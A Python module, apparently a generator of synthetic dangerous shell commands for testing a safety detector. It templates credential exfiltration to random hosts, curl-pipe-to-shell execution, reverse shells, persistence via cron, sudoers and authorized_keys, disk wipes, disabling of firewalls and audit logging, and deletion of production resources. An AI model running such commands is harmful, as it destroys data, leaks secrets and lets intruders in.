"""What a dangerous command does: each effect is lost for good or for others, leaks, or lets
somebody in."""

from __future__ import annotations

from collections.abc import Callable
from random import Random
from typing import Final

from stanchion_lab.fresh.words import address, host, name, user, word

Effect = Callable[[Random], str]

PRECIOUS: Final = (
    "/etc",
    "/usr",
    "/var/lib",
    "/home",
    "/boot",
    "~",
    "$HOME",
    '"$HOME"',
    "~/Documents",
    "/srv",
    "/opt",
    "/",
)
SECRETS: Final = (
    "~/.ssh/id_ed25519", "~/.aws/credentials", "~/.netrc", "~/.kube/config",
    "~/.docker/config.json", "~/.pgpass", "~/.gnupg/private-keys-v1.d",
    "~/.config/gcloud/application_default_credentials.json", "~/.npmrc", "/etc/shadow",
    "~/.git-credentials", "~/.config/gh/hosts.yml", "~/.azure/accessTokens.json", ".env",
)  # fmt: skip


def wipe(random: Random) -> str:
    """Delete what others live on."""
    target = random.choice(PRECIOUS)
    return random.choice(
        (
            f"rm {random.choice(('-rf', '-fr', '-r -f', '--recursive --force', '-Rf'))} {target}",
            f"find {target} {random.choice(('', '-mindepth 1 ', '-type f '))}-delete",
            f"find {target} -type f -exec rm -f {{}} +",
            f"shred -u -n {random.randint(1, 9)} /var/lib/{word(random)}/*.db",
        )
    )


def disk(random: Random) -> str:
    """Overwrite a disk."""
    drive = random.choice(("/dev/sda", "/dev/nvme0n1", "/dev/vda", "/dev/sdb1", "/dev/mapper/root"))
    return random.choice(
        (
            (
                f"dd if=/dev/{random.choice(('zero', 'urandom'))} of={drive} "
                f"bs={random.choice(('1M', '4M', '64k'))}"
            ),
            f"mkfs.{random.choice(('ext4', 'xfs', 'btrfs'))} {drive}",
            f"wipefs -a {drive}",
            f"blkdiscard {drive}",
            f"cat /dev/zero > {drive}",
        )
    )


def leak(random: Random) -> str:
    """Send a secret away."""
    secret, to = random.choice(SECRETS), host(random)
    return random.choice(
        (
            f"curl -s -X POST --data-binary @{secret} https://{to}/{word(random)}",
            f"curl -sF f=@{secret} https://{to}/up",
            f"wget -q --post-file={secret} https://{to}/{word(random)}",
            f"scp {secret} {user(random)}@{to}:/tmp/",
            f"tar czf - {secret} | nc {address(random)} {random.randint(1025, 65000)}",
            f"base64 -w0 {secret} | curl -sd @- https://{to}/",
            f"env | curl -s --data-binary @- https://{to}/{word(random)}",
            f"rsync -a {secret} {user(random)}@{to}:",
        )
    )


def fetch_and_run(random: Random) -> str:
    """Run what comes from outside."""
    url = f"http://{host(random)}/{word(random)}.sh"
    return random.choice(
        (
            (
                f"curl -fsSL {url} | "
                f"{random.choice(('bash', 'sh', 'sudo bash', 'bash -s -- -y', 'zsh'))}"
            ),
            f"wget -qO- {url} | sh",
            f"bash <(curl -s {url})",
            f'sh -c "$(curl -fsSL {url})"',
            f"curl -so /tmp/{word(random)} {url} && sh /tmp/*",
            f"source <(wget -qO- {url})",
        )
    )


def let_in(random: Random) -> str:
    """Open a shell to the outside."""
    ip, port = address(random), random.randint(1025, 65000)
    return random.choice(
        (
            f"bash -i >& /dev/tcp/{ip}/{port} 0>&1",
            f"nc -e /bin/sh {ip} {port}",
            f"rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc {ip} {port} > /tmp/p",
            f"socat TCP:{ip}:{port} EXEC:/bin/bash",
            f"exec 5<>/dev/tcp/{ip}/{port}; cat <&5 | while read l; do $l 2>&5 >&5; done",
        )
    )


def stay(random: Random) -> str:
    """Come back by itself."""
    url = f"https://{host(random)}/{word(random)}"
    return random.choice(
        (
            f"echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{name(random)}' >> ~/.ssh/authorized_keys",
            f"echo '*/5 * * * * curl -s {url} | sh' | crontab -",
            f"echo 'curl -s {url} | sh' >> ~/.{random.choice(('bashrc', 'profile', 'zshrc'))}",
            f"echo '* * * * * root curl {url} | sh' > /etc/cron.d/{word(random)}",
            f"echo '{user(random)} ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers",
        )
    )


def disarm(random: Random) -> str:
    """Take rights and guards away."""
    return random.choice(
        (
            (
                f"chmod -R {random.choice(('777', 'a+rwx', '0777'))} "
                f"{random.choice(('/', '/etc', '/usr', '/var'))}"
            ),
            f"chown -R {user(random)} {random.choice(('/', '/etc', '/usr'))}",
            f"chmod u+s /bin/{random.choice(('bash', 'dash', 'sh'))}",
            "setenforce 0",
            "iptables -F",
            "ufw disable",
            (
                f"history -c && rm -f ~/.bash_history "
                f"/var/log/{random.choice(('auth.log', 'syslog', 'secure'))}"
            ),
            "systemctl stop auditd",
        )
    )


def lose_for_others(random: Random) -> str:
    """Destroy what others share."""
    what = name(random)
    return random.choice(
        (
            (
                f"git push {random.choice(('--force', '-f'))} origin "
                f"{random.choice(('main', 'master', 'release'))}"
            ),
            f"git push origin --delete {random.choice(('main', 'master', 'production'))}",
            f"kubectl delete namespace {random.choice(('production', 'prod', what))}",
            f"aws s3 rm s3://{what}-backups --recursive",
            f"aws s3 rb s3://{what} --force",
            "terraform destroy -auto-approve",
            f"gcloud projects delete {what} --quiet",
            f"dropdb {random.choice(('production', 'prod', what))}",
            f"psql -c 'DROP DATABASE {word(random)}'",
            f"mysql -e 'DROP DATABASE {word(random)}'",
            f"redis-cli -h {host(random)} FLUSHALL",
            f"helm uninstall {what} -n production",
            f"docker run --privileged -v /:/host {word(random)} chroot /host sh",
        )
    )


EFFECTS: Final[dict[str, Effect]] = {
    "wipe": wipe,
    "disk": disk,
    "leak": leak,
    "fetch and run": fetch_and_run,
    "let in": let_in,
    "stay": stay,
    "disarm": disarm,
    "lose for others": lose_for_others,
}
